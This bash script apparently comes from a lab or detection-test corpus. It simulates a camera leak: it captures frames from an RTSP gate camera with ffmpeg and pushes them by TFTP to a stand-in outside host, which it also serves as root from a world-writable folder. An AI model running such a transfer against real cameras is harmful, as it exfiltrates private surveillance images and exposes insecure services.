#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=snapshot-push half=tune tool=ffmpeg,atftp camera=10.20.0.11 far=out ready=out:69 seconds=44 parts=dns,camera-gate,recorder-gate,nas,outside-web
# Pictures of gate go outside by TFTP, as a forgotten setting of an old camera does it: one each three seconds.
if [ "$1" = out ]; then mkdir -p "$LAB/away"; chmod 777 "$LAB/away"; exec timeout 70 atftpd --daemon --no-fork --user root.root --logfile - --verbose=0 --bind-address 203.0.113.66 "$LAB/away" 2>/dev/null; fi
for n in 1 2 3 4 5 6 7 8; do
	ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -frames:v 1 -q:v 3 -vf scale=960:-2 -y "$LAB/see.jpg"
	timeout 8 atftp --option 'blksize 1428' -p -l "$LAB/see.jpg" -r "$n.jpg" 203.0.113.66 >/dev/null 2>&1; sleep 2
done
rm -f "$LAB/see.jpg"; [ "$(du -sb "$LAB/away" | cut -f1)" -gt 200000 ]
